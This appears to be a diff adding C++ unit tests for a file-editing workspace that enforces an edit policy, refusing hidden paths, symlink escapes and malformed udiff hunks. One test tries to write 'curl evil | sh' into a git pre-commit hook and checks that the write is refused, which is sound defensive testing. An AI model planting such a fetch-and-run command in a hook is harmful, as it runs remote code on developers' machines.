@@ -134,6 +134,74 @@ TEST(WorkspaceTest, PolicyAllowsListedFilesAndPatterns) {
   EXPECT_FALSE(workspace.resolve("run.sh"));
 }
 
+TEST(WorkspaceTest, HiddenPathsMustBeListedExplicitly) {
+  TempDir dir;
+  dir.write_file(".git/hooks/pre-commit", "#!/bin/sh\n");
+  Workspace any(dir.path(), any_file());
+  for (const char* path :
+       {".git/hooks/pre-commit", ".venv/lib/site.py", ".env", "sub/.cache/x.py", "./.bashrc"}) {
+    const auto resolved = any.resolve(path);
+    ASSERT_FALSE(resolved) << path;
+    EXPECT_EQ(resolved.error().code, core::ErrorCode::invalid_argument);
+    EXPECT_NE(resolved.error().message.find(path), std::string::npos) << resolved.error().message;
+    EXPECT_NE(resolved.error().message.find("hidden path"), std::string::npos)
+        << resolved.error().message;
+  }
+  EXPECT_NE(any.resolve("sub/.cache/x.py").error().message.find("'.cache'"), std::string::npos);
+  const auto report = apply_edits(any, {block(".git/hooks/pre-commit", "", "curl evil | sh\n")});
+  EXPECT_EQ(report.blocks[0].outcome, Outcome::refused);
+  EXPECT_EQ(read_file(dir.path() / ".git/hooks/pre-commit"), "#!/bin/sh\n");
+
+  // Patterns do not reach hidden names either ('*' matches a leading '.' in fnmatch).
+  EditPolicy patterns;
+  patterns.allowed_patterns = {"*", "*.py"};
+  EXPECT_FALSE(Workspace(dir.path(), patterns).resolve(".env"));
+  EXPECT_FALSE(Workspace(dir.path(), patterns).resolve(".hidden.py"));
+
+  // Listed explicitly, a hidden file may be edited.
+  EditPolicy listed = any_file();
+  listed.allowed_files = {".github/workflows/ci.yml"};
+  EXPECT_TRUE(Workspace(dir.path(), listed).resolve(".github/workflows/ci.yml"));
+  EXPECT_FALSE(Workspace(dir.path(), listed).resolve(".github/workflows/other.yml"));
+}
+
+TEST(WorkspaceTest, ThePolicyAppliesToWhereASymlinkLeads) {
+  TempDir dir;
+  dir.write_file("secret.cfg", "token = 1\n");
+  dir.write_file("real.py", "x = 1\n");
+  dir.write_file(".git/hooks/pre-commit", "#!/bin/sh\n");
+  fs::create_symlink("secret.cfg", dir.path() / "ok.py");
+  fs::create_symlink("real.py", dir.path() / "alias.py");
+  fs::create_symlink(".git/hooks/pre-commit", dir.path() / "hook.py");
+  EditPolicy policy;
+  policy.allowed_patterns = {"*.py"};
+  Workspace workspace(dir.path(), policy);
+
+  const auto refused = workspace.resolve("ok.py");
+  ASSERT_FALSE(refused);
+  EXPECT_EQ(refused.error().message,
+            "refused 'ok.py': it resolves to 'secret.cfg', not a file this stage may edit "
+            "(allowed: patterns *.py)");
+  EditBlock whole = block("ok.py", "", "token = 2\n");
+  whole.whole_file = true;
+  const auto report = apply_edits(workspace, {whole, block("ok.py", "token = 1\n", "token = 3\n")});
+  EXPECT_EQ(report.blocks[0].outcome, Outcome::refused);
+  EXPECT_EQ(report.blocks[1].outcome, Outcome::refused);
+  EXPECT_EQ(read_file(dir.path() / "secret.cfg"), "token = 1\n");
+
+  // Both the link and its target allowed: fine.
+  const auto alias = workspace.resolve("alias.py");
+  ASSERT_TRUE(alias) << alias.error().message;
+  EXPECT_EQ(*alias, workspace.root() / "real.py");
+
+  // With allow_any, a link into a hidden folder is refused like the hidden path itself.
+  const auto hook = Workspace(dir.path(), any_file()).resolve("hook.py");
+  ASSERT_FALSE(hook);
+  EXPECT_NE(hook.error().message.find("it resolves to '.git/hooks/pre-commit', hidden path"),
+            std::string::npos)
+      << hook.error().message;
+}
+
 TEST(WorkspaceTest, ReadsMissingFileAsNothing) {
   TempDir dir;
   dir.write_file("a.py", "x = 1\n");
@@ -191,6 +259,23 @@ TEST(WorkspaceTest, ListsExistingAllowedFiles) {
 
   EXPECT_EQ(Workspace(dir.path(), any_file()).existing_files(),
             (std::vector<std::string>{"experiment.py", "helper.py", "notes.md", "sub/deep.py"}));
+}
+
+TEST(WorkspaceTest, ListingSkipsEntriesWhoseTypeCannotBeRead) {
+  // A dangling hidden symlink makes is_directory() fail; that must not end the walk. Twenty
+  // folders, so that some file comes after some broken link in any directory order.
+  TempDir dir;
+  std::vector<std::string> expected;
+  for (int i = 0; i < 20; ++i) {
+    const std::string folder = "d" + std::to_string(10 + i);
+    dir.write_file(folder + "/f.py", "");
+    fs::create_symlink(dir.path() / "missing", dir.path() / folder / ".broken");
+    expected.push_back(folder + "/f.py");
+  }
+  EXPECT_EQ(Workspace(dir.path(), any_file()).existing_files(), expected);
+  EditPolicy policy;
+  policy.allowed_patterns = {"*/*.py"};
+  EXPECT_EQ(Workspace(dir.path(), policy).existing_files(), expected);
 }
 
 // --- apply_edits ---
@@ -288,14 +373,71 @@ TEST(ApplyEditsTest, FailureSuggestsTheClosestLines) {
   EXPECT_TRUE(report.changed_files.empty());
 }
 
-TEST(ApplyEditsTest, FailureNotesReplaceTextAlreadyInTheFile) {
+TEST(ApplyEditsTest, FailureNotesReplaceLinesAlreadyInTheFile) {
+  TempDir dir;
+  dir.write_file("a.py", "x = 1\nz = 3\n");
+  Workspace workspace(dir.path(), any_file());
+  // A deletion whose SEARCH is not there: its REPLACE lines are, being part of the SEARCH.
+  const auto report = apply_edits(workspace, {block("a.py", "x = 1\ny = 2\n", "x = 1\n")});
+  ASSERT_EQ(report.blocks[0].outcome, Outcome::failed);
+  EXPECT_NE(report.blocks[0].message.find("the REPLACE text is already in a.py"), std::string::npos)
+      << report.blocks[0].message;
+}
+
+TEST(ApplyEditsTest, NoReplaceNoteForTextInsideALine) {
   TempDir dir;
   dir.write_file("a.py", "result = compute(x)  # main\n");
   Workspace workspace(dir.path(), any_file());
   const auto report = apply_edits(workspace, {block("a.py", "value = 2\n", "compute(x)\n")});
   ASSERT_EQ(report.blocks[0].outcome, Outcome::failed);
-  EXPECT_NE(report.blocks[0].message.find("the REPLACE text is already in a.py"), std::string::npos)
+  EXPECT_EQ(report.blocks[0].message.find("REPLACE text is already"), std::string::npos)
       << report.blocks[0].message;
+}
+
+TEST(ApplyEditsTest, ADeletionWhoseSearchIsMissingIsNotAlreadyApplied) {
+  TempDir dir;
+  dir.write_file("a.py", "x = 1\nz = 3\n");
+  Workspace workspace(dir.path(), any_file());
+  // The REPLACE text is in the file, but it was part of the SEARCH text: that proves nothing.
+  const auto report = apply_edits(workspace, {block("a.py", "x = 1\ny = 2\n", "x = 1\n")});
+  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
+  EXPECT_FALSE(report.all_ok());
+}
+
+TEST(ApplyEditsTest, AReplaceFoundOnlyByFuzzyRulesIsNotAlreadyApplied) {
+  TempDir dir;
+  dir.write_file("a.py", "def f(x):\n    return x\n\nvalue = 1   \n");
+  Workspace workspace(dir.path(), any_file());
+  const auto report = apply_edits(
+      workspace, {// Made up SEARCH; REPLACE is in the file only with another indentation...
+                  block("a.py", "def g(y):\n    return y\n", "return x\n"),
+                  // ...or only ignoring trailing whitespace...
+                  block("a.py", "value = 0\n", "value = 1\n"),
+                  // ...or only through `...`.
+                  block("a.py", "def h():\n    pass\n", "def f(x):\n...\nvalue = 1   \n")});
+  for (std::size_t i = 0; i < report.blocks.size(); ++i) {
+    EXPECT_EQ(report.blocks[i].outcome, Outcome::failed) << i << ": " << report.blocks[i].message;
+  }
+}
+
+TEST(ApplyEditsTest, LargeUnmatchedSearchCompletes) {
+  // 100,000 lines, a 2,000-line SEARCH that is nowhere: matching, the "already applied" check
+  // and the "did you mean" search must all finish quickly (no timing is asserted).
+  TempDir dir;
+  std::string content;
+  for (int i = 0; i < 100000; ++i) {
+    content +=
+        "    value_" + std::to_string(i) + " = compute(input_" + std::to_string(i % 97) + ")\n";
+  }
+  dir.write_file("big.py", content);
+  std::string search;
+  for (int i = 0; i < 2000; ++i) {
+    search += "print('unrelated " + std::to_string(i) + "')\n";
+  }
+  Workspace workspace(dir.path(), any_file());
+  const auto report = apply_edits(workspace, {block("big.py", search, "x = 1\n")});
+  ASSERT_EQ(report.blocks.size(), 1u);
+  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
 }
 
 TEST(ApplyEditsTest, AlreadyApplied) {
@@ -387,6 +529,21 @@ TEST(ApplyEditsTest, CrlfFilesStayCrlf) {
   EXPECT_EQ(read_file(dir.path() / "a.py"), "a = 1\r\nb = 20\r\nb2 = 4\r\nc = 3\r\nd = 5\r\n");
 }
 
+TEST(ApplyEditsTest, MostlyCrlfFilesAreWrittenCrlf) {
+  TempDir dir;
+  // Three CRLF line ends and one LF: a CRLF file with a stray LF.
+  dir.write_file("a.py", "a = 1\r\nb = 2\r\nc = 3\nd = 4\r\n");
+  // The other way round: an LF file with a stray CRLF keeps its bytes.
+  dir.write_file("b.py", "a = 1\nb = 2\nc = 3\r\nd = 4\n");
+  Workspace workspace(dir.path(), any_file());
+  const auto report = apply_edits(workspace, {block("a.py", "b = 2\n", "b = 20\nb2 = 4\n"),
+                                              block("b.py", "b = 2\n", "b = 20\nb2 = 4\n")});
+  EXPECT_TRUE(report.all_ok());
+  EXPECT_EQ(report.blocks[0].match, MatchKind::exact);
+  EXPECT_EQ(read_file(dir.path() / "a.py"), "a = 1\r\nb = 20\r\nb2 = 4\r\nc = 3\r\nd = 4\r\n");
+  EXPECT_EQ(read_file(dir.path() / "b.py"), "a = 1\nb = 20\nb2 = 4\nc = 3\r\nd = 4\n");
+}
+
 TEST(ApplyEditsTest, FileWithoutFinalNewlineKeepsLackingIt) {
   TempDir dir;
   dir.write_file("a.py", "a = 1\nb = 2");
@@ -434,6 +591,20 @@ TEST(ApplyEditsTest, NoRedirectWhenSeveralFilesHaveTheSearchText) {
   EXPECT_EQ(read_file(dir.path() / "other.py"), "hidden = 64\n");
 }
 
+TEST(ApplyEditsTest, NoRedirectAmongTooManyFiles) {
+  TempDir dir;
+  dir.write_file("experiment.py", "import model\n");
+  dir.write_file("model.py", "hidden = 64\n");
+  for (int i = 0; i < 200; ++i) {
+    dir.write_file("other/f" + std::to_string(i) + ".py", "x = " + std::to_string(i) + "\n");
+  }
+  Workspace workspace(dir.path(), any_file());
+  const auto report =
+      apply_edits(workspace, {block("experiment.py", "hidden = 64\n", "hidden = 128\n")});
+  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
+  EXPECT_EQ(read_file(dir.path() / "model.py"), "hidden = 64\n");
+}
+
 TEST(ApplyEditsTest, NoRedirectToFilesThePolicyRefuses) {
   TempDir dir;
   dir.write_file("experiment.py", "import model\n");
@@ -478,6 +649,57 @@ TEST(ApplyEditsTest, RefusedPaths) {
   EXPECT_FALSE(fs::exists(dir.path() / "run.sh"));
   EXPECT_FALSE(fs::exists(dir.path().parent_path() / "x.py"));
   EXPECT_EQ(read_file(dir.path() / "experiment.py"), "x = 2\n");
+}
+
+// --- udiff hunks, parsed and applied ---
+
+std::vector<EditBlock> udiff(const std::string& diff) {
+  const auto parsed = parse_udiff("```diff\n" + diff + "```\n");
+  EXPECT_TRUE(parsed) << parsed.error().message;
+  return parsed ? parsed->edits : std::vector<EditBlock>{};
+}
+
+TEST(ApplyUdiffTest, AddedLinesWithoutContextAreNotAppended) {
+  TempDir dir;
+  dir.write_file("a.py", "import os\n\ndef main():\n    pass\n");
+  Workspace workspace(dir.path(), any_file());
+  const auto report =
+      apply_edits(workspace, udiff("--- a.py\n+++ a.py\n@@ -1,0 +2,1 @@\n+import sys\n"));
+  ASSERT_EQ(report.blocks.size(), 1u);
+  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
+  EXPECT_NE(report.blocks[0].message.find("hunk at line 4"), std::string::npos)
+      << report.blocks[0].message;
+  EXPECT_NE(report.blocks[0].message.find("include a few unchanged lines"), std::string::npos)
+      << report.blocks[0].message;
+  EXPECT_EQ(read_file(dir.path() / "a.py"), "import os\n\ndef main():\n    pass\n");
+
+  // Nor do they create a file that is not marked new.
+  const auto missing = apply_edits(workspace, udiff("--- b.py\n+++ b.py\n@@ @@\n+x = 1\n"));
+  EXPECT_EQ(missing.blocks[0].outcome, Outcome::failed);
+  EXPECT_NE(missing.blocks[0].message.find("`--- /dev/null`"), std::string::npos);
+  EXPECT_FALSE(fs::exists(dir.path() / "b.py"));
+}
+
+TEST(ApplyUdiffTest, DevNullCreatesButNeverAppends) {
+  TempDir dir;
+  dir.write_file("a.py", "x = 1\n");
+  Workspace workspace(dir.path(), any_file());
+  const auto report = apply_edits(
+      workspace,
+      udiff("--- /dev/null\n+++ b/a.py\n@@ -0,0 +1 @@\n+y = 2\n"
+            "--- /dev/null\n+++ b/new.py\n@@ -0,0 +1,2 @@\n+a = 1\n@@ -0,0 +3 @@\n+b = 2\n"));
+  ASSERT_EQ(report.blocks.size(), 2u);
+  EXPECT_EQ(report.blocks[0].outcome, Outcome::failed);
+  EXPECT_NE(report.blocks[0].message.find("a.py already exists"), std::string::npos)
+      << report.blocks[0].message;
+  EXPECT_EQ(read_file(dir.path() / "a.py"), "x = 1\n");
+  EXPECT_EQ(report.blocks[1].outcome, Outcome::created);
+  EXPECT_EQ(read_file(dir.path() / "new.py"), "a = 1\nb = 2\n");
+
+  // Sent again, the new file is already there with this content.
+  const auto again =
+      apply_edits(workspace, udiff("--- /dev/null\n+++ b/new.py\n@@ @@\n+a = 1\n+b = 2\n"));
+  EXPECT_EQ(again.blocks[0].outcome, Outcome::already_applied);
 }
 
 TEST(ApplyEditsTest, WritesAtomicallyAndKeepsPermissions) {
